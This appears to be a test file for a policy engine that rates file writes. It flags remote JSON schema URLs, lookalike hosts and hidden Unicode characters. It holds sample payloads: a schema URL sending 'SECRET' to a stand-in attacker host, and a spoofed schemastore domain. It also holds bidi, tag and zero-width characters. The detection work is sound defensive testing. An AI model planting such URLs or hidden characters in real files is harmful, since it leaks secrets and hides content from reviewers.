/** Writes of text that does more than it shows (W037, W038). */
import assert from "node:assert/strict";
import { judgeEffect } from "../../src/core/rule";
import { rules } from "../../src/policy/index";
import { type Fixture, makeFixture } from "./support/fixture";
import { kindOf } from "./support/judge";

const schema = (url: string) => JSON.stringify({ $schema: url });

describe("written text", () => {
  let fixture: Fixture;
  before(() => {
    fixture = makeFixture();
  });
  after(() => fixture.remove());

  const cases: readonly (readonly [string, before: string | undefined, after: string | undefined, string])[] = [
    ["plain text", undefined, "hello\n", "ask"],
    ["a remote schema", undefined, schema("https://evil.example/?d=SECRET"), "ask always"],
    [
      "a remote schema with escaped slashes",
      undefined,
      schema("https://evil.example/x").replaceAll("/", "\\/"),
      "ask always",
    ],
    ["a schema that was there", schema("https://a.example/x"), ` ${schema("https://a.example/x")}`, "ask"],
    ["a usual schema", undefined, schema("https://json.schemastore.org/tsconfig"), "ask"],
    [
      "a host that only starts like a usual one",
      undefined,
      schema("https://json.schemastore.org.evil.example/x"),
      "ask always",
    ],
    ["a local schema", undefined, schema("./schema.json"), "ask"],
    ["tag characters", "a\n", "a\u{e0041}\n", "ask always"],
    ["bidirectional controls", "a\n", "a\u202eb\n", "ask always"],
    ["zero width between letters", "ab\n", "a\u200bb\n", "ask always"],
    ["hidden characters that were there", "a\u202eb\n", "a\u202eb c\n", "ask"],
    ["emoji", undefined, "\u{1f469}\u200d\u{1f4bb} \u2714\ufe0f\n", "ask"],
    ["a byte order mark", undefined, "\ufeffhello\n", "ask"],
    ["a deletion", "a\u202eb", undefined, "ask"],
  ];
  for (const [title, before, after, expected] of cases)
    it(`${title} is ${expected}`, async () => {
      const context = fixture.context();
      const bytes = (text: string | undefined) => (text === undefined ? undefined : new TextEncoder().encode(text));
      const target = await context.resolve("a.json");
      const decision = await judgeEffect(
        rules,
        { kind: "write", target, before: bytes(before), after: bytes(after) },
        context,
      );
      assert.equal(kindOf(decision), expected, decision.reason);
    });
});
